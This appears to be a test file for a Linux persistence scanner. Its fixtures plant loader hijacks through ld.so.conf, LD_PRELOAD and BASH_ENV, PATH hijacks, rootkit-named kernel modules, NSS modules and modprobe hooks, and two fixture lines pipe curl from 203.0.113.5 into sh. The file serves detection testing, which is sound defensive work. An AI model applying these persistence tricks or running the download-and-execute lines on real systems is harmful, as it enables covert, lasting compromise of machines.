/**
 * persistence, the dynamic loader and the login environment (ld.so.conf, /etc/environment, pam_env,
 * environment.d) and kernel module loading (modules-load.d, /etc/modules, modprobe.d).
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { systemdAssignments } from "../../src/scanners/persistence/sources/environment.ts";
import { parseNsswitch } from "../../src/scanners/persistence/sources/nss.ts";
import { makeTree, runOne } from "../helpers.ts";
import { fired, rootWith } from "./persistence_fixtures.ts";

const isRoot = Deno.uid() === 0;

Deno.test("ld.so.conf: directories in temporary, hidden, home or writable places fire; the stock ones are quiet", async () => {
  using root = makeTree(rootWith([], {
    "etc/ld.so.conf": "include ld.so.conf.d/*.conf\n",
    "etc/ld.so.conf.d/libc.conf": "# libc default configuration\n/usr/local/lib\n",
    "etc/ld.so.conf.d/x86_64-linux-gnu.conf":
      "/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
    "etc/ld.so.conf.d/zz-app.conf":
      "/opt/app/lib, /dev/shm/.l:/usr/lib/.cache\ninclude /etc/ld.so.conf.more/*\n",
    "etc/ld.so.conf.more/deep": "/home/bob/lib\n",
    "etc/ld.so.conf.d/.hidden.conf": "/tmp/never-read\n",
    "etc/ld.so.conf.d/off.conf.bak": "/tmp/never-read\n",
    "usr/lib/.cache": { dir: true },
    "opt/app/lib": { dir: true },
  }));
  if (isRoot) Deno.chownSync(`${root.path}/opt/app/lib`, 1000, 1000);
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "high persistence.ld_so_conf.untrusted_dir /etc/ld.so.conf.d/zz-app.conf:1",
    "high persistence.ld_so_conf.untrusted_dir /etc/ld.so.conf.d/zz-app.conf:1",
    ...(isRoot ? ["high persistence.ld_so_conf.untrusted_dir /etc/ld.so.conf.d/zz-app.conf:1"] : []),
    "high persistence.ld_so_conf.untrusted_dir /etc/ld.so.conf.more/deep:1",
  ]);
  assert.deepEqual(
    r.findings.map((f) => [f.metadata.directory, f.metadata.location_kind]).sort(),
    [
      ["/dev/shm/.l", "temp"],
      ["/home/bob/lib", "home"],
      ...(isRoot ? [["/opt/app/lib", "user_writable"]] : []),
      ["/usr/lib/.cache", "hidden"],
    ],
  );
});

Deno.test("ld.so.conf: a library named like a system one in an earlier directory shadows it; unique names and links to it do not", async () => {
  using root = makeTree(rootWith([], {
    "etc/ld.so.conf": "include /etc/ld.so.conf.d/*.conf\n",
    "etc/ld.so.conf.d/libc.conf": "# libc default configuration\n/usr/local/lib\n",
    "etc/ld.so.conf.d/x86_64-linux-gnu.conf":
      "/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
    "etc/ld.so.conf.d/app.conf": "/opt/app/lib\n",
    "usr/lib/x86_64-linux-gnu/libc.so.6": "\x7fELF system",
    "usr/lib/x86_64-linux-gnu/libpam.so.0": "\x7fELF system",
    "usr/lib/x86_64-linux-gnu/libz.so.1": "\x7fELF system",
    "lib": { symlink: "usr/lib" },
    "usr/local/lib/libc.so.6": "\x7fELF planted",
    "usr/local/lib/x86_64-linux-gnu/libpam.so.0": "\x7fELF planted",
    // Quiet: a library of its own name, a link to the system library, something that is not a library.
    "usr/local/lib/libmything.so.1": "\x7fELF",
    "opt/app/lib/libz.so.1": { symlink: "/usr/lib/x86_64-linux-gnu/libz.so.1" },
    "opt/app/lib/libc.so.6.bak": "x",
    // Configured after the system directories (zz-vendor.conf comes last): the system's libz is found first.
    "etc/ld.so.conf.d/zz-vendor.conf": "/opt/v/lib\n",
    "opt/v/lib/libz.so.1": "\x7fELF bundled",
    // First in the order, in a directory only packages write, and no package installed it: shadows.
    "etc/ld.so.conf.d/00-evil.conf": "/usr/lib/evil\n",
    "usr/lib/evil/libz.so.1": "\x7fELF planted",
    // A glibc-hwcaps subdirectory of a configured directory is searched before it.
    "usr/local/lib/glibc-hwcaps/x86-64-v2/libz.so.1": "\x7fELF planted",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "medium persistence.ld_so_conf.shadowing_library /usr/lib/evil/libz.so.1:1",
    "medium persistence.ld_so_conf.shadowing_library /usr/local/lib/glibc-hwcaps/x86-64-v2/libz.so.1:2",
    "medium persistence.ld_so_conf.shadowing_library /usr/local/lib/libc.so.6:2",
    "medium persistence.ld_so_conf.shadowing_library /usr/local/lib/x86_64-linux-gnu/libpam.so.0:1",
  ]);
  const libc = r.findings.find((f) => f.metadata.library === "libc.so.6")!;
  assert.equal(libc.metadata.shadowed, "/lib/x86_64-linux-gnu/libc.so.6");
  assert.equal(libc.metadata.config, "/etc/ld.so.conf.d/libc.conf");
});

Deno.test("environment: loader variables and PATH entries judged for the sessions they apply to", async () => {
  using root = makeTree(rootWith([], {
    "etc/environment": 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/tmp/.b"\nLANG=C.UTF-8\n',
    "etc/security/pam_env.conf": [
      "# comment",
      "LD_AUDIT   DEFAULT=/home/bob/.a.so",
      'PATH       DEFAULT="/var/tmp/bin:${PATH}" \\',
      "           OVERRIDE=/usr/bin",
      "DISPLAY    DEFAULT=${REMOTEHOST}:0.0 OVERRIDE=${DISPLAY}",
    ].join("\n"),
    "home/bob/.pam_environment": "PATH DEFAULT=/home/bob/bin:${PATH}\nLD_LIBRARY_PATH=:/usr/lib\n",
    "home/alice/.pam_environment": "LD_PRELOAD DEFAULT=/home/bob/x.so\n",
    "etc/environment.d/90-vendor.conf": "LD_PRELOAD=/opt/vendor/libhook.so\nGTK_MODULES=gail\n",
    "opt/vendor/libhook.so": "",
    "home/alice/.config/environment.d/10-own.conf": "PATH=/home/alice/.local/bin:$PATH\n",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "high persistence.environment.loader_var /etc/security/pam_env.conf:2",
    "high persistence.environment.loader_var /home/alice/.pam_environment:1",
    "high persistence.environment.loader_var /home/bob/.pam_environment:2",
    "high persistence.environment.path_hijack /etc/security/pam_env.conf:3",
    "medium persistence.environment.loader_var /etc/environment.d/90-vendor.conf:1",
  ]);
  assert.ok(!r.findings.some((f) => f.metadata.entry === "/tmp/.b"), "after /usr/bin nothing is shadowed");
});

Deno.test("environment: variables that make shells and interpreters run code at start are reported", async () => {
  using root = makeTree(rootWith([], {
    "etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nBASH_ENV=/var/tmp/.e\nLANG=C.UTF-8\n',
    "etc/security/pam_env.conf": "PYTHONSTARTUP DEFAULT=/usr/share/site/startup.py\n",
    "usr/share/site/startup.py": "",
    "etc/environment.d/50-less.conf": "LESSOPEN=|curl -s http://203.0.113.5/x | sh %s\n",
    "home/alice/.pam_environment": "PROMPT_COMMAND DEFAULT=/usr/lib/.cache/p\n",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings).filter((f) => f.includes("startup_code")), [
    "high persistence.environment.startup_code /etc/environment.d/50-less.conf:1",
    "high persistence.environment.startup_code /etc/environment:2",
    "high persistence.environment.startup_code /home/alice/.pam_environment:1",
    "medium persistence.environment.startup_code /etc/security/pam_env.conf:1",
  ]);
  // The usual variables of these files are not code.
  using quiet = makeTree(rootWith([], {
    "etc/environment": 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nLANG=C.UTF-8\n',
    "etc/environment.d/90-qt.conf": "QT_QPA_PLATFORMTHEME=gtk2\nEDITOR=vim\n",
  }));
  const q = await runOne(persistence, quiet.path);
  assert.deepEqual(fired(q.findings).filter((f) => f.includes("persistence.environment")), []);
});

Deno.test("environment: systemd's DefaultEnvironment= and a unit's Environment= that run code are judged", async () => {
  using root = makeTree(rootWith([], {
    "etc/systemd/system.conf": "[Manager]\n#DefaultEnvironment=\nDefaultTimeoutStopSec=10s\n",
    "etc/systemd/system.conf.d/50-env.conf":
      '[Manager]\nDefaultEnvironment="LD_PRELOAD=/var/tmp/.l.so" LANG=C BASH_ENV=/usr/lib/.cache/e\n',
    "usr/lib/systemd/user.conf.d/10-x.conf": "[Manager]\nDefaultEnvironment=PATH=/tmp/bin:/usr/bin\n",
    "lib/systemd/system/cron.service": "[Service]\nExecStart=/usr/sbin/cron -f\n",
    "etc/systemd/system/cron.service.d/override.conf":
      '[Service]\nEnvironment="BASH_ENV=/var/tmp/.e" TZ=UTC\n',
    "etc/systemd/system/app.service": "[Service]\nEnvironment=LANG=C.UTF-8 PYTHONUNBUFFERED=1\n" +
      "ExecStart=/usr/bin/python3 -m http.server\n",
    // EnvironmentFile= is read too; a missing optional one says nothing, a stock-looking one is quiet.
    "etc/systemd/system/web.service":
      "[Service]\nEnvironmentFile=/etc/default/e4\nEnvironmentFile=-/etc/default/none\n" +
      "EnvironmentFile=/etc/default/ssh\nExecStart=/usr/bin/true\n",
    "etc/default/e4": "OPTS=-v\nBASH_ENV=/var/tmp/.c4\n",
    "etc/default/ssh": 'SSHD_OPTS=""\n',
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings).filter((f) => f.includes("persistence.environment")), [
    "high persistence.environment.loader_var /etc/systemd/system.conf.d/50-env.conf:2",
    "high persistence.environment.path_hijack /usr/lib/systemd/user.conf.d/10-x.conf:2",
    "high persistence.environment.startup_code /etc/default/e4:2",
    "high persistence.environment.startup_code /etc/systemd/system.conf.d/50-env.conf:2",
    "high persistence.environment.startup_code /etc/systemd/system/cron.service.d/override.conf:2",
  ]);
});

Deno.test("environment: systemd reads NAME = value (blanks around =) in EnvironmentFile= and environment.d; pam_env does not", async () => {
  using root = makeTree(rootWith([], {
    "etc/systemd/system/web.service":
      "[Service]\nEnvironmentFile=/etc/default/web\nExecStart=/usr/bin/true\n",
    "etc/default/web": "OPTS = -v\nLD_PRELOAD = /dev/shm/.l.so\n",
    "etc/environment.d/60-x.conf": "BASH_ENV\t=\t/var/tmp/.e\n",
    // pam_env skips a key with blanks before its '=': nothing is set, nothing to report.
    "etc/environment": "LD_PRELOAD = /dev/shm/.p.so\n",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings).filter((f) => f.includes("persistence.environment")), [
    "high persistence.environment.loader_var /etc/default/web:2",
    "high persistence.environment.startup_code /etc/environment.d/60-x.conf:1",
  ]);
});

Deno.test("systemdAssignments: words split at blanks, quotes around or inside a word removed", () => {
  assert.deepEqual(
    systemdAssignments(`"A=1 2" B=x 'C=y z' D="q r"s noequals =bad`, 4).map((a) => [a.name, a.value, a.line]),
    [["A", "1 2", 4], ["B", "x", 4], ["C", "y z", 4], ["D", "q rs", 4]],
  );
  assert.deepEqual(systemdAssignments("", 1), []);
  assert.deepEqual(systemdAssignments('"unterminated A=1', 1).map((a) => a.name), ["A"]);
});

Deno.test("modules-load.d and /etc/modules: names no kernel ships or whose file no package installed", async () => {
  const k = "lib/modules/6.1.0-18-amd64";
  using root = makeTree(rootWith([`/${k}/kernel/drivers/net/tun.ko`], {
    [`${k}/modules.dep`]: [
      "kernel/drivers/net/tun.ko:",
      "kernel/drivers/misc/vhost-helper.ko: kernel/drivers/net/tun.ko",
      "updates/dkms/vboxdrv.ko:",
    ].join("\n"),
    [`${k}/modules.builtin`]: "kernel/fs/ext4/ext4.ko\n",
    [`${k}/modules.alias`]: "alias fs-overlay overlay\nalias net-pf-* af_packet\n",
    [`${k}/kernel/drivers/net/tun.ko`]: "",
    [`${k}/kernel/drivers/misc/vhost-helper.ko`]: "",
    "etc/modules-load.d/modules.conf": { symlink: "../modules" },
    "etc/modules": "# /etc/modules\ntun\nvhost_helper\n",
    "usr/lib/modules-load.d/vbox.conf": "vboxdrv\next4\n; comment\nfs-overlay\nnet-pf-17\n",
    "etc/modules-load.d/zz.conf": "diamorphine\n",
    "etc/modules-load.d/masked.conf": { symlink: "/dev/null" },
    "usr/lib/modules-load.d/masked.conf": "never\n",
    // Loaded along with another module: one whose file no package installed fires as a boot-time load would;
    // a packaged one, and one the kernel does not have (not loaded at all), do not.
    "etc/modprobe.d/ext4.conf": "softdep ext4 pre: tun post: vhost_helper gone_module\n",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "medium persistence.module_load.unknown /etc/modules-load.d/zz.conf:1",
    "medium persistence.module_load.unowned /etc/modprobe.d/ext4.conf:1",
    "medium persistence.module_load.unowned /etc/modules-load.d/modules.conf:3",
  ]);
  assert.match(
    r.findings.find((f) => f.metadata.path === "/etc/modprobe.d/ext4.conf")!.description,
    /loads vhost_helper with ext4 from .*vhost-helper\.ko/,
  );
  assert.deepEqual(r.warnings, []);
  using bare = makeTree(rootWith([], { "etc/modules-load.d/x.conf": "tun\n" }));
  const none = await runOne(persistence, bare.path);
  assert.deepEqual(none.warnings.map((w) => w.code), ["no_module_index"]);
});

Deno.test("modprobe.d: install/remove commands beyond the blacklist idiom and modprobe fire", async () => {
  using root = makeTree(rootWith(["/usr/sbin/modprobe"], {
    "usr/sbin/modprobe": { content: "", mode: 0o755 },
    "usr/sbin/pcspkr-hook": { content: "", mode: 0o755 },
    "etc/modprobe.d/cis.conf":
      "install cramfs /bin/false\ninstall usb-storage /bin/true\nblacklist firewire-core\n",
    "etc/modprobe.d/alsa.conf":
      "install snd-pcsp /usr/sbin/modprobe --ignore-install snd-pcsp $CMDLINE_OPTS && \\\n  /usr/sbin/modprobe snd-x\n",
    "etc/modprobe.d/iwlwifi.conf":
      "remove iwlwifi (/sbin/lsmod | grep -o -e ^iwlmvm -e ^iwlwifi | xargs /sbin/rmmod) && /sbin/modprobe -r mac80211\n",
    "etc/modprobe.d/pcspkr.conf":
      "install pcspkr /usr/local/bin/beep-hook; /usr/sbin/modprobe --ignore-install pcspkr\n",
    "etc/modprobe.d/x.conf": "remove dummy curl -s http://203.0.113.5/m | sh\nfrobnicate x\ninstall lonely\n",
    "usr/lib/modprobe.d/planted.conf": "install bluetooth /usr/sbin/pcspkr-hook\n",
    "lib/modprobe.d/never.conf.d": "install y /tmp/y\n",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.download_exec /etc/modprobe.d/x.conf:1",
    "medium persistence.command.unowned_program /usr/lib/modprobe.d/planted.conf:1",
    "medium persistence.modprobe.command /etc/modprobe.d/pcspkr.conf:1",
    "medium persistence.modprobe.command /usr/lib/modprobe.d/planted.conf:1",
  ]);
  assert.deepEqual(r.warnings.map((w) => w.code), ["modprobe_malformed"]);
  assert.match(r.warnings[0].detail!, /x\.conf: 2 line/);
});

Deno.test("nsswitch.conf: databases, services and [STATUS=action] controls; malformed lines are counted", () => {
  const p = parseNsswitch(
    "# comment\npasswd:         files systemd\nhosts: files mdns4_minimal [NOTFOUND=return] dns # x\n" +
      "no colon here\n\u0000\u00ff\nshadow: files\ngroup: files ev+il [NOTFOUND=return\n",
  );
  assert.deepEqual(p.lines.map((l) => [l.line, l.database, l.services]), [
    [2, "passwd", ["files", "systemd"]],
    [3, "hosts", ["files", "mdns4_minimal", "dns"]],
    [6, "shadow", ["files"]],
    [7, "group", ["files", "ev+il"]],
  ]);
  // A run of brackets never closed is read once (it was quadratic), not a service.
  const t0 = performance.now();
  assert.deepEqual(parseNsswitch(`passwd: files ${"[".repeat(250_000)}`).lines[0].services, ["files"]);
  assert.ok(performance.now() - t0 < 2000);
  assert.equal(p.bad, 2);
});

Deno.test("NSS modules: a module no package installed fires; packaged and absent ones stay quiet", async () => {
  const lib = "lib/x86_64-linux-gnu";
  using root = makeTree(rootWith([`/${lib}/libnss_files.so.2`, `/${lib}/libnss_systemd.so.2`], {
    "etc/nsswitch.conf": "passwd: files systemd cache\ngroup: files systemd ev+il\n" +
      "hosts: files mdns4_minimal [NOTFOUND=return] dns\n",
    [`${lib}/libnss_files.so.2`]: "\u007fELF",
    [`${lib}/libnss_systemd.so.2`]: "\u007fELF",
    [`${lib}/libnss_cache.so.2`]: "\u007fELF",
    // Where else glibc looks: /usr/local/lib, and the hwcaps subdirectories it tries first.
    "usr/local/lib/libnss_ev+il.so.2": "\u007fELF",
    [`${lib}/glibc-hwcaps/x86-64-v3/libnss_files.so.2`]: "\u007fELF planted",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(
    r.findings.filter((f) => f.check_id === "persistence.nss.unowned_module").map((f) => f.metadata.library)
      .sort(),
    [
      "/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v3/libnss_files.so.2",
      "/lib/x86_64-linux-gnu/libnss_cache.so.2",
      "/usr/local/lib/libnss_ev+il.so.2",
    ],
  );
});
